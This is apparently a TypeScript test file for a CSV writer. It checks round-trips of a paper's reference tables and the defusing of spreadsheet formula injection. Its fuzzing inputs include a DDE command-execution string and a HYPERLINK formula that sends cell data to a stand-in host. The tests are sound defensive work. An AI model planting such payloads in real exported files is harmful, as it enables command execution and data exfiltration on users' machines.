import fc from 'fast-check';
import { readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { expect, test } from 'vitest';
import { writeCsv } from '../../src/exchange/tabular/write-csv.ts';
import { cellsOf } from './read.ts';

const paperTable = (number: number) =>
  readFileSync(resolve(import.meta.dirname, `../../reference/paper/table${number}.csv`), 'utf8');

test.each([1, 2, 3, 4, 5, 6])("the paper's table %i comes out as it went in", async (number) => {
  const original = paperTable(number);
  const [header = [], ...rows] = await cellsOf(original);
  const written = writeCsv(header, rows);
  expect(await cellsOf(written)).toEqual([header, ...rows]);
  expect(written.replaceAll('"', '')).toBe(original.replaceAll('"', ''));
});

test.each([1, 2, 3, 4, 5])("the paper's table %i comes out byte for byte", async (number) => {
  const original = paperTable(number);
  const [header = [], ...rows] = await cellsOf(original);
  expect(writeCsv(header, rows)).toBe(original);
});

test('a text that a spreadsheet would run is defused; a number never is', () => {
  const cells = ['=1+1', '+7 701', '-x', '@SUM(A1)', '\tx', '-5', -5, 0.1, null, '', 'a-b'];
  expect(
    writeCsv(
      ['h'],
      cells.map((cell) => [cell]),
    ),
  ).toBe(`h\n'=1+1\n'+7 701\n'-x\n'@SUM(A1)\n"'\tx"\n-5\n-5\n0.1\n""\n""\na-b\n`);
  expect(() => writeCsv(['h'], [[Number.NaN]])).toThrow(RangeError);
});

test('no text of anybody begins a cell as a formula, in CSV; a number stays one', () => {
  const sign = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '');
  const rest = fc.oneof(
    fc.string(),
    fc.constantFrom(`cmd|'/C calc'!A0`, 'HYPERLINK("https://evil.example?"&A1)', '1', '1.5', '"', ';', ','),
  );
  fc.assert(
    fc.property(sign, rest, (first, second) => {
      const written = writeCsv(['h'], [[`${first}${second}`]]).slice(2, -1);
      const cell = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
      const isNumber = /^-?\d+(\.\d+)?$/.test(cell);
      expect([cell, /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !isNumber]).toEqual([cell, false]);
    }),
  );
});

test('cells of CSV are written in one place', () => {
  const files = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter((name) =>
    /\.tsx?$/.test(name),
  );
  const quoting = files.filter((name) => readFileSync(`src/${name}`, 'utf8').includes(`'""')`));
  expect(quoting).toEqual(['exchange/tabular/write-csv.ts']);
});
